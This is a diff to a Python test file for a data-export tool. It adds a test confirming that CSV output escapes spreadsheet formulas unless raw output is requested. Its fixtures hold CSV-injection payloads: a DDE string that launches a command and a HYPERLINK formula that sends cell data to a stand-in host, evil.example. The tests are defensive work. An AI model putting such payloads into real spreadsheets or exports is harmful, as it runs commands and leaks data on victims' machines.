@@ -11,10 +11,12 @@ from typing import Any
 
 import pytest
 
+from prov_worker.cli.main import run as cli
 from prov_worker.errors import InputError
 from prov_worker.run.api import open_run
 from prov_worker.run.export.samples import write_csv, write_parquet
 from prov_worker.run.index.tables import SAMPLES
+from prov_worker.testing import CrateFactory
 
 
 def expected(crates: Path) -> dict[tuple[str, str, str, float], float | None]:
@@ -121,3 +123,22 @@ def test_a_data_frame_is_the_same_table(crates: Path, tmp_path: Path) -> None:
     written["time"] = pd.to_datetime(written["time"])
     frames["time"] = frames["time"].dt.floor("us")
     pd.testing.assert_frame_equal(frames, written, check_dtype=False)
+
+
+@pytest.mark.parametrize("raw", [False, True])
+def test_a_formula_is_quoted_unless_a_program_asks(tmp_path: Path, raw: bool) -> None:
+    factory = CrateFactory(tmp_path / "crates", host="@SUM(1+1)*cmd|' /C calc'!A0")
+    factory.add(1, '=HYPERLINK("http://evil.example/"&A1,"x")', sampled=True)
+    write_csv(open_run(factory.directory), tmp_path / "series.csv", raw=raw)
+    with (tmp_path / "series.csv").open(encoding="utf-8", newline="") as stream:
+        row = next(csv.DictReader(stream))
+    mark = "" if raw else "'"
+    assert row["host"] == f"{mark}@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["function"] == f'{mark}=HYPERLINK("http://evil.example/"&A1,"x")'
+
+
+def test_raw_is_for_csv(crates: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    command = ["run", "export", str(crates), "--format", "flowcept", "-o", str(tmp_path / "out"), "--raw"]
+    assert cli(command) == 2
+    assert "--raw goes with --format csv" in capsys.readouterr().err
+    assert not (tmp_path / "out").exists()
